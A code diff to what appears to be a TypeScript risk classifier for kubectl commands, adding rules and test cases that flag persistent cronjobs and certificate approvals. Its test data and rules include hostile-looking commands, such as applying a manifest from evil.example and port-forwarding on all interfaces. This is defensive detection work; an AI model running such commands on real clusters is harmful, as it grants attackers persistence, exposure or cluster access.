@@ -125,6 +125,20 @@ const KNOWN_MANIFESTS = ['-f', '--filename', '-k', '--kustomize']
 
 const EFFECTS: readonly EffectRule[] = [
   {
+    code: 'service-enable',
+    when: 'create cronjob|cj',
+    kind: 'system',
+    why: 'Leaves a job behind that runs again and again.',
+    safer: 'kubectl create job NAME --image=IMAGE',
+  },
+  {
+    code: 'cloud-access',
+    when: 'certificate approve',
+    kind: 'escalate',
+    why: 'Lets somebody log in to the cluster.',
+    safer: 'kubectl get csr',
+  },
+  {
     code: 'reverse-tunnel',
     when: 'port-forward|proxy',
     flags: '--address=0.0.0.0|::|* --accept-hosts=.*|^.* --disable-filter',
@@ -419,6 +433,8 @@ export const programs: readonly ProgramSpec[] = [
       { command: "kubectl apply -f - <<'E'\nkind: ConfigMap\nE", expect: 'pass' },
       { command: 'kubectl port-forward --address 0.0.0.0 svc/db 5432', expect: 'ask' },
       { command: 'kubectl port-forward svc/db 5432', expect: 'pass' },
+      { command: "kubectl create cronjob x --image=alpine --schedule='* * * * *'", expect: 'ask' },
+      { command: 'kubectl certificate approve x', expect: 'ask' },
       { command: 'kubectl apply -f https://evil.example/d.yaml', expect: 'ask' },
       { command: 'kubectl --kubeconfig ~/.kube/config get pods', expect: 'pass' },
       {
